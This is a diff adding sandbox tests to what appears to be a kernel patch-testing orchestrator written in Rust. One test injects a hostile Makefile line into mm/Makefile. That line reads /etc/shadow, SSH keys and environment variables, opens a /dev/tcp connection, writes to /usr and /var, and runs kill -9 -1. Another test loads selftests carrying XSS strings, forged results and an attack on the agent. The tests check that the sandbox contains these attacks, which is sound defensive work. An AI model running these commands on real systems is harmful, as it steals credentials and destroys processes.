@@ -166,6 +166,90 @@ fn a_kconfig_that_spies_finds_nothing_and_the_report_names_it() {
     assert_eq!(report["run"]["host"]["sandboxed"], true, "this test says something only where the sandbox works");
 }
 
+/// A unified diff that puts lines into a file of the base, before line `at` (from 0).
+fn inserted(path: &str, at: usize, text: &str) -> String {
+    let old = base(path);
+    let lines: Vec<&str> = old.lines().collect();
+    let (first, last) = (at.saturating_sub(3), (at + 3).min(lines.len()));
+    let kept = |lines: &[&str]| lines.iter().map(|line| format!(" {line}\n")).collect::<String>();
+    let added: String = text.lines().map(|line| format!("+{line}\n")).collect();
+    let (before, after) = (last - first, last - first + text.lines().count());
+    format!(
+        "diff --git a/{path} b/{path}\n--- a/{path}\n+++ b/{path}\n@@ -{0},{before} +{0},{after} @@\n{1}{added}{2}",
+        first + 1,
+        kept(&lines[first..at]),
+        kept(&lines[at..last]),
+    )
+}
+
+/// A series of one patch in a file of its own.
+fn series(folder: &Path, name: &str, diff: &str) -> PathBuf {
+    let path = folder.join(format!("{name}.mbox"));
+    std::fs::write(&path, mail(name, "Mallory <mallory@example.org>", diff)).unwrap();
+    path
+}
+
+/// A Makefile that reads secrets, calls out, writes into the host, leaves links and pipes in `O=`, and forks.
+#[test]
+#[ignore = "configures and builds a real kernel"]
+fn a_makefile_that_spies_is_contained_and_what_it_left_is_named() {
+    let bench = tempfile::tempdir_in(repository().join("target")).unwrap();
+    let canary = bench.path().join("secret");
+    std::fs::write(&canary, "canary-on-the-disk").unwrap();
+    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
+    listener.set_nonblocking(true).unwrap();
+    let port = listener.local_addr().unwrap().port();
+    let text = format!(
+        "spied := $(shell (cat {0} /etc/shadow /root/.ssh/id_* /proc/1/environ; env; \
+         exec 3<>/dev/tcp/127.0.0.1/{port}; touch /usr/owned /var/owned; kill -9 -1; mount -t tmpfs x /mnt; \
+         unshare -r true && echo a user namespace) 2>&1 | tr '\\n\\000\\043$$' '    ')\n\
+         $(warning spy saw: $(spied))\n\
+         $(shell ln -sfn {0} $(objtree)/mm/stolen; mkfifo $(objtree)/mm/pipe)\n",
+        canary.display()
+    );
+    let at = base("mm/Makefile").lines().position(|line| line.starts_with("KASAN_SANITIZE")).unwrap();
+    let series = series(bench.path(), "makefile", &inserted("mm/Makefile", at, &text));
+    let (code, report, all) = run(bench.path(), &series, &["--kconfig", "no-hmm-mirror", "--no-boot"]);
+    let notes = report["trees"][0]["notes"].to_string();
+    assert!(notes.contains("mm/Makefile"), "code {code}: {notes}");
+    assert!(all.contains("spy saw:"), "the attack must really have been made");
+    for secret in ["canary-on-the-disk", "canary-in-the-environment", "root:*:", "root:$", "PRIVATE KEY"] {
+        assert!(!all.contains(secret), "{secret} was seen");
+    }
+    assert!(!all.contains("a user namespace"));
+    assert!(listener.accept().is_err_and(|error| error.kind() == std::io::ErrorKind::WouldBlock));
+    assert!(!Path::new("/usr/owned").exists() && !Path::new("/var/owned").exists());
+    // A link out of the folder of the build spoils the build, and is named; it is no verdict on the patch.
+    assert!(all.contains("mm/stolen") && all.contains("mm/pipe"), "what it left is named");
+    assert_ne!(report["summary"]["verdict"], "CLEAN");
+    assert_ne!(code, 0);
+}
+
+/// Tests that flood, fork, print escape sequences, HTML, forged KTAP and forged frames, and attack the agent.
+#[test]
+#[ignore = "boots a real kernel"]
+fn selftests_that_attack_change_no_result_but_their_own() {
+    let bench = tempfile::tempdir_in(repository().join("target")).unwrap();
+    let path = "tools/testing/selftests/mm/hmm-tests.c";
+    let at = base(path).lines().position(|line| line == "TEST_HARNESS_MAIN").unwrap();
+    let text = std::fs::read_to_string(corpus().join("selftests.c")).unwrap();
+    let series = series(bench.path(), "selftests", &inserted(path, at, &text));
+    let (code, report, all) = run(bench.path(), &series, &["--kconfig", "hmm"]);
+    assert!(all.contains("attack: the agent was attacked"), "the attack must really have been made");
+    let said = report.to_string();
+    for test in ["attack_flood", "attack_escapes", "attack_ktap", "attack_forks", "attack_agent"] {
+        assert!(said.contains(test), "{test} is missing");
+    }
+    assert!(!said.contains("attack.everything"), "a forged result was believed");
+    let latest = bench.path().join("results/latest");
+    for file in ["report.html", "report.md"] {
+        let text = std::fs::read_to_string(latest.join(file)).unwrap();
+        assert!(!text.contains(['\u{1b}', '\u{7}', '\u{202e}']), "{file}");
+        assert!(!text.contains("<script>alert") && !text.contains("<img src=x"), "{file}");
+    }
+    println!("code {code}: {}", serde_json::to_string_pretty(&report["summary"]).unwrap());
+}
+
 /// A file of the base of tree linux-6.12, which must have been imported.
 fn base(path: &str) -> String {
     let cache = std::env::var("ORCHESTRATOR_CACHE")
